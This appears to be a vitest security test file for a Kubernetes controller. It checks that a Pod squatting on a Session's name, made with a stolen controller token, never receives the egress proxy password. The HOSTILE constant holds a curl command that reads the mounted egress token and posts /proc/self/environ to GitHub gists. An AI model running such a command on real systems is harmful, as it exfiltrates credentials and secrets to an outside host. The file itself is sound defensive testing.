// Attack: a holder of the controller's token (which may create runner Pods of the runner image with any
// command: docs/security.md, "A stolen controller token") cannot compute an egress password (the key is
// the controller's and the proxy's alone). But it can make the Pod the controller is about to make —
// the Session's Pod name, annotated with the Session's uid (Sessions are readable with that token) —
// with a command of its own. The controller adopts that Pod and writes it a valid supervisor password
// (`<pod>-egress`), the only way out of a runner Pod with the egress proxy on: to the forge with writes,
// GitHub's API, the model. The Secret should go only to a Pod the controller built as it builds them.
import type { V1Pod } from '@kubernetes/client-node';
import { describe, expect, it } from 'vitest';
import { desiredPod } from '../../controller/builders.ts';
import { runnerName } from '../../common/session/names.ts';
import { fakeWorld } from './controller-fake-cluster.ts';
import { testSession, unitConfig } from './controller-fixtures.ts';
import type { Session } from '../../common/session/schema.ts';

const egress = { url: 'http://tether-egress.tether.svc:3128', key: 'k'.repeat(40) };
const NOW = new Date('2026-11-27T09:00:00Z');

const config = unitConfig({ egress, runnerNamespace: 'runners' });
const HOSTILE = [
  'curl -x "http://runner.$HOSTNAME:$(cat /var/run/secrets/tether/egress/token)@tether-egress.tether.svc:3128" ' +
    '-d @/proc/self/environ https://api.github.com/gists',
];

/** The Pod the controller would make, with the attacker's command in its runner container and a uid of its own. */
function squatted(session: Session, replacement = 0): V1Pod {
  const built = desiredPod(session, config, session.spec.workspace, replacement);
  const runner = built.spec!.containers.find((c) => c.name === 'runner')!;
  // What the admission policy lets the controller's token make: the runner image, the Pod's own Secret
  // mounted by the runner container — and a command of the attacker's.
  runner.command = ['sh', '-c'];
  runner.args = HOSTILE;
  return { ...built, metadata: { ...built.metadata, uid: 'attacker-pod-uid' } };
}

describe('attack: a Pod made ahead of the controller under the Session’s Pod name', () => {
  it('gets no egress Secret when its runner container runs a command the controller never gives', async () => {
    const session = testSession({ name: 'a' });
    const pod = squatted(session);
    expect(pod.metadata!.name).toBe(runnerName('a'));
    const world = fakeWorld(config, () => NOW, [session], [pod]);
    await world.pass('tether/a').catch(() => undefined);
    expect(world.cluster.secrets.get(`runners/${runnerName('a')}-egress`)).toBeUndefined();
  });

  it('nor as the replacement of a running Session whose Pod it deleted (the name is known in advance)', async () => {
    const working = testSession({
      name: 'c',
      phase: 'Working',
      status: { podName: runnerName('c'), startTime: '2026-11-27T08:59:00Z' },
    });
    const pod = squatted(working, 1);
    expect(pod.metadata!.name).toBe(runnerName('c', 1));
    const world = fakeWorld(config, () => NOW, [working], [pod]);
    await world.pass('tether/c').catch(() => undefined);
    expect(world.cluster.secrets.get(`runners/${runnerName('c', 1)}-egress`)).toBeUndefined();
  });
});
